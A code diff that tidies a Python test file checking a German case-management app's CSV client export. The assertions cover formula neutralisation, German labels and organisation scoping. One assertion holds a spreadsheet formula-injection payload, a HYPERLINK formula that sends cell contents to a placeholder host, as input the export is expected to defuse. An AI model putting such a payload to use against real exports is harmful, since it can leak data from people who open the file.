@@ -7,6 +7,7 @@ import io
 
 from sqlalchemy import select
 
+from models import Organisation, User
 from models.audit import AuditEvent
 from tests.conftest import login
 from tests.factories import make_client
@@ -35,8 +36,6 @@ def test_client_export_is_german_excel_csv_with_only_own_rows(client, world):
 
 
 def test_export_shows_labels_german_dates_and_neutralises_formulas(client, world, session):
-    from models import Organisation, User
-
     organisation = session.get(Organisation, world.a.organisation_id)
     author = session.execute(
         select(User).where(User.email == world.a.case_manager_email)
@@ -56,7 +55,7 @@ def test_export_shows_labels_german_dates_and_neutralises_formulas(client, world
     header, *rows = read_as_german_excel(client.get("/admin/clients/export/csv/?search=Müller"))
     (row,) = rows
     cells = dict(zip(header, row, strict=True))
-    assert cells["Vorname"] == "'=HYPERLINK(\"http://x/?\"&A1,\"x\")"
+    assert cells["Vorname"] == '\'=HYPERLINK("http://x/?"&A1,"x")'
     assert cells["Nachname"] == "Müller; mit\nZeilenumbruch"
     assert cells["Aufenthaltsstatus"] == "Duldung"
     assert cells["Sprachmittlung nötig"] == "ja"
@@ -66,7 +65,9 @@ def test_export_shows_labels_german_dates_and_neutralises_formulas(client, world
 
 def test_export_honours_search_and_stays_scoped_with_forged_parameters(client, world):
     login(client, world.a.case_manager_email)
-    found = read_as_german_excel(client.get(f"/admin/clients/export/csv/?search={world.b.client_name}"))
+    found = read_as_german_excel(
+        client.get(f"/admin/clients/export/csv/?search={world.b.client_name}")
+    )
     assert found[1:] == []
 
 
